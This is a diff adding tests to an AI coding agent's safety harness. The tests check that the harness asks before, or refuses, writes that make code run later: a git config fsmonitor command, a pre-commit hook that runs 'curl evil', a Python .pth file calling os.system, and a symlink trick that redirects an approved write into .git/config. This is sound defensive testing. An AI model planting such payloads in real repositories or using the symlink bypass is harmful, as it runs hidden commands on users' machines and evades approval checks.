@@ -5,9 +5,11 @@ from __future__ import annotations
 import json
 import secrets
 import string
+import subprocess
+from pathlib import Path
 
-from agent.events import EventType
-from agent.llm.scripted import call, say
+from agent.events import Approval, EventType, UserInput
+from agent.llm.scripted import call, calls, say
 
 
 def fake(prefix: str, n: int = 36) -> str:
@@ -77,3 +79,98 @@ async def test_a_symlink_made_by_bash_cannot_take_write_or_read_outside(start_ag
     assert [o["is_error"] for o in outputs[1:]] == [True, True]
     assert "private data" not in everything_written(h)
     assert not (outside / "planted.txt").exists()
+
+
+# ---- writes that make code run later ------------------------------------------------------------
+
+FSMONITOR = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch planted; false\n"
+
+
+def git_repo(ws: Path) -> str:
+    ws.mkdir(exist_ok=True)
+    subprocess.run(["git", "init", "-q", str(ws)], check=True)
+    return (ws / ".git" / "config").read_text()
+
+
+def git_status(ws: Path) -> None:
+    subprocess.run(["git", "status", "--short"], cwd=ws, capture_output=True, check=False, timeout=60)
+
+
+async def test_a_chat_asks_before_write_plants_a_command_in_git_config_and_names_it(start_agent, tmp_path):  # type: ignore[no-untyped-def]
+    ws = tmp_path / "ws"
+    original = git_repo(ws)
+    plant = call("write", path=".git/config", content=FSMONITOR)
+    h = await start_agent([plant, say("ok"), plant, say("done")], headless=False)
+
+    h.submit(UserInput("tidy the repo"))
+    asked = await h.until(EventType.APPROVAL_REQUIRED)
+    assert "protected" in asked.data["effects"]
+    assert asked.data["reason"].startswith("writes .git/config: git runs commands named there")
+    h.submit(Approval(asked.data["call_id"], False, "no"))
+    await h.until(EventType.TURN_COMPLETE)
+    assert (ws / ".git" / "config").read_text() == original
+    git_status(ws)
+    assert not (ws / "planted").exists()
+
+    h.submit(UserInput("really, do it"))  # a human who approves gets what was shown: the attack is real
+    asked = await h.until(EventType.APPROVAL_REQUIRED)
+    h.submit(Approval(asked.data["call_id"], True))
+    await h.until(EventType.TURN_COMPLETE)
+    git_status(ws)
+    assert (ws / "planted").exists()
+
+
+async def test_headless_denies_writes_to_git_internals_and_venvs_and_tells_the_model(start_agent, tmp_path):  # type: ignore[no-untyped-def]
+    ws = tmp_path / "ws"
+    original = git_repo(ws)
+    site = ws / ".venv" / "lib" / "python3.11" / "site-packages"
+    site.mkdir(parents=True)
+    (ws / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (ws / "hook.py").write_text("print('hi')\n")
+    h = await start_agent(
+        [
+            call("write", path=".git/config", content=FSMONITOR),
+            call("write", path=".git/hooks/pre-commit", content="#!/bin/sh\ncurl evil\n"),
+            call("write", path=".venv/lib/python3.11/site-packages/zz.pth", content="import os; os.system('x')\n"),
+            call("edit", path="hook.py", old="hi", new="ho"),  # an ordinary edit still runs
+            say("done"),
+        ]
+    )
+
+    done = await h.turn("set up the repo")
+
+    assert done.data["stop_reason"] == "done"
+    outputs = [e.data for e in h.of(EventType.TOOL_OUTPUT)]
+    assert [o["is_error"] for o in outputs] == [True, True, True, False]
+    assert "writes .git/config: git runs commands named there" in outputs[0]["output"]
+    assert "headless" in outputs[0]["output"]
+    assert "git runs hooks" in outputs[1]["output"]
+    assert ".pth files" in outputs[2]["output"]
+    assert (ws / ".git" / "config").read_text() == original
+    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
+    assert list(site.iterdir()) == []
+    assert (ws / "hook.py").read_text() == "print('ho')\n"
+    told = [m.content for m in h.model.requests[-1] if m.role == "tool"]
+    assert any("writes .git/config" in t for t in told)
+
+
+async def test_a_symlink_made_earlier_in_the_batch_cannot_turn_an_approved_write_into_git_config(start_agent, tmp_path):  # type: ignore[no-untyped-def]
+    ws = tmp_path / "ws"
+    original = git_repo(ws)
+    h = await start_agent(
+        [
+            calls(
+                ("bash", {"command": "ln -s .git innocent"}),
+                ("write", {"path": "innocent/config", "content": FSMONITOR}),
+            ),
+            say("done"),
+        ],
+        overrides=["approvals.headless_auto=[execute]"],  # bash runs unasked, as a config may allow
+    )
+
+    await h.turn("go")
+
+    write_out = [e.data for e in h.of(EventType.TOOL_OUTPUT)][1]
+    assert write_out["is_error"]
+    assert "since it was approved, it writes .git/config" in write_out["output"]
+    assert (ws / ".git" / "config").read_text() == original
